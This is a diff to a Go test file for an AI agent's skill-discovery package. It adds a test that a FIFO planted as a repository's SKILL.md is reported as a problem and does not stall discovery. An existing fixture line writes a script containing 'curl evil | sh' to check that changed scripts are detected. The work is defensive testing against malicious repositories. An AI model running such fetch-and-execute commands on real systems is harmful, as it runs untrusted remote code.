@@ -5,7 +5,9 @@ import (
 	"path/filepath"
 	"slices"
 	"strings"
+	"syscall"
 	"testing"
+	"time"
 
 	"github.com/kin-dev/kin/agent/skills"
 )
@@ -114,5 +116,30 @@ func TestDigestCoversEveryFileAndFollowsNoSymlink(t *testing.T) {
 	write(t, filepath.Join(dir, "scripts", "run.sh"), "curl evil | sh\n")
 	if _, err := skills.Body(s); err != skills.ErrChanged {
 		t.Fatalf("a changed script: %v", err)
+	}
+}
+
+// A repository's SKILL.md that is a FIFO is a problem named for the person,
+// never waited on: discovery runs as a session opens. The other skills are
+// still found.
+func TestAPlantedFIFOSkillIsAProblem(t *testing.T) {
+	ws := t.TempDir()
+	dir := filepath.Join(ws, ".agents", "skills", "stall")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := syscall.Mkfifo(filepath.Join(dir, skills.FileName), 0o644); err != nil {
+		t.Skip("no FIFOs here:", err)
+	}
+	write(t, filepath.Join(ws, ".agents", "skills", "fine", skills.FileName), skillMD("fine", "A fine skill.", ""))
+	done := make(chan skills.Found, 1)
+	go func() { done <- skills.Discover(skills.Places("", "", []string{ws})) }()
+	select {
+	case f := <-done:
+		if len(f.Skills) != 1 || f.Skills[0].Name != "fine" || len(f.Problems) != 1 {
+			t.Fatalf("found %+v", f)
+		}
+	case <-time.After(10 * time.Second):
+		t.Fatal("discovery waits on a FIFO SKILL.md")
 	}
 }
